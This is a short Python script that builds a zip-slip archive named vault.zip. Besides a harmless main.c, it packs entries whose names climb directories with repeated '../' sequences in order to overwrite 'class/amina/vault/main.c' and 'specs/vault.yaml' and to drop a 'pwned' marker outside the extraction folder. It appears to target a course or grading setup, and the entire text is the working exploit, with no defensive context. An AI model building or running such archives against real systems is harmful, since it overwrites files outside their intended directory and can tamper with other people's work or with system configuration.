import zipfile

with zipfile.ZipFile("vault.zip", "w") as archive:
    archive.writestr("main.c", "int main(void) { return 0; }\n")
    for up in range(1, 6):
        archive.writestr("../" * up + "class/amina/vault/main.c", "int main(void) { return 1; }\n")
        archive.writestr("../" * up + "pwned", "owned\n")
        archive.writestr("a/" + "../" * (up + 1) + "specs/vault.yaml", "owned\n")
